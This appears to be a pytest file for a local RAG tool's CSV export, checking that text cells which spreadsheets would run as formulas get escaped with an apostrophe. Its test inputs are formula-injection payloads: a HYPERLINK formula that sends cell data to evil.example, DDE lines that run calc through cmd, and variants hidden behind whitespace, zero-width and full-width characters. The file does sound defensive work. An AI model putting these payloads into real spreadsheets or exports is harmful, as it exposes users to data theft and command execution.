"""A table for a spreadsheet: what documents say is never computed there."""

from __future__ import annotations

import csv
import io
import json
import re
from itertools import chain
from pathlib import Path

import pytest
from click.testing import CliRunner

from localrag.cli.group import cli
from localrag.evaluation.dataset import Context, Sample
from localrag.evaluation.metric import JudgeEvidence, Response, Score
from localrag.evaluation.results import EvaluatedRun, Report
from localrag.evaluation.scoring import Scored
from localrag.presentation.csv_table import cell, csv_bytes, csv_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＠SUM(1)",
]
PARTED = [
    "see annex;=1+1;",
    "see annex;  ＝1+1",
    'see annex;"=1+1"',
    "see annex;\u200b@SUM(1)",
    "see annex\t-1+1",
    "first line\n=1+1;x",
    "first line\r\n+1+1;x",
    "a;b;c\n;=1+1",
]
"""Texts that are several cells where something else than a comma stands between them."""


def computed(text: str) -> bool:
    bare = text.lstrip('\ufeff\u200b\ufffd\x00 \t\u3000"').lstrip()
    return bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_be_computed_is_marked_as_text(text: str) -> None:
    value = cell(text)
    assert isinstance(value, str)
    assert value.startswith("'")


@pytest.mark.parametrize(
    "text", ["", "a=1", "1-2", "'quoted", "See [1]; a@b; c\nd", "中文=好", '","=1+1']
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_numbers_stay_numbers() -> None:
    assert cell(-0.5) == -0.5
    assert cell(3) == 3
    assert cell(None) == ""
    assert (cell(True), cell(False)) == ("true", "false")


def test_a_whole_report_is_read_back_with_nothing_to_compute() -> None:
    results = tuple(
        Scored(
            Sample(text, f"{text}?", None, None, (text,)),
            Response(text, (Context(text, f"{text}.pdf", 3, 3),), 1.5),
            {"faithfulness": Score(-0.25, "scored"), "f1": Score(None, "undefined")},
            JudgeEvidence(),
            False,
        )
        for text in [*HOSTILE, *PARTED, 'He said "no",\nand left.']
    )
    whole = csv_table(Report("d", "", None, (EvaluatedRun("=run", results),))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(whole, newline="")))
    head, *body = rows
    assert head[-2:] == ["faithfulness", "f1"]
    assert len(body) == len(results)
    for row in body:
        assert (row[-2], row[-1], row[7]) == ("-0.25", "", "1.5")
        assert not any(map(computed, row[:7] + row[8:9]))
    assert body[-1][5] == 'He said "no",\nand left.'
    assert ",-0.25," in whole
    assert '"1.5"' not in whole


def test_lists_and_numbers_within_a_text_stay_as_they_are() -> None:
    for text in ("Two things:\n- oil\n- filters", "Open Mon; -5 °C at night", "a;-5", "a;+3,5 %"):
        assert cell(text) == text
    assert (cell("a;- A1"), cell("a;-5 +6")) == ("a;'- A1", "a;'-5 +6")
    assert cell("a;-2+cmd|' /C calc'!A0") == "a;'-2+cmd|' /C calc'!A0"
    assert cell("a\n- cmd|' /C calc'!A0") == "a\n'- cmd|' /C calc'!A0"


@pytest.mark.parametrize("separator", [";", "\t"])
def test_nothing_is_computed_whatever_stands_between_cells(separator: str) -> None:
    for text in [*HOSTILE, *PARTED]:
        assert any(map(computed, re.split(r"[;\t\r\n]", text))), "the test would see it"
        whole = csv_bytes([["File", "What is it?"], ["a.txt", text], [text, "x"], ["x;", text]])
        lines = whole.decode("utf-8-sig").splitlines(keepends=True)
        rows = list(csv.reader(lines, delimiter=separator))
        # Some programs take each line for a row, whatever quotes are open.
        rows += (line.split(separator) for line in lines)
        assert not any(map(computed, chain.from_iterable(rows))), text


def test_the_command_writes_it(tmp_path: Path) -> None:
    data, table = tmp_path / "d.json", tmp_path / "t.csv"
    rows = [{"question": "=1+1 是什么？", "answer": "@x", "contexts": ["c"], "ideal_answer": "二"}]
    data.write_text(json.dumps(rows), encoding="utf-8")
    arguments = ["eval", "run", str(data), "--no-judge", "--csv", str(table)]
    result = CliRunner().invoke(cli, [*arguments, "--cache", str(tmp_path / "cache")])
    assert result.exit_code == 0, (result.output, result.exception)
    assert table.read_bytes().startswith(b"\xef\xbb\xbf")
    with table.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["question"], row["answer"], row["f1"]) == ("'=1+1 是什么？", "'@x", "0.0")
    arguments[-1] = str(tmp_path / "none" / "t.csv")
    output = CliRunner().invoke(cli, [*arguments, "--cache", str(tmp_path / "cache")])
    assert "cannot be written" in str(output.exception)
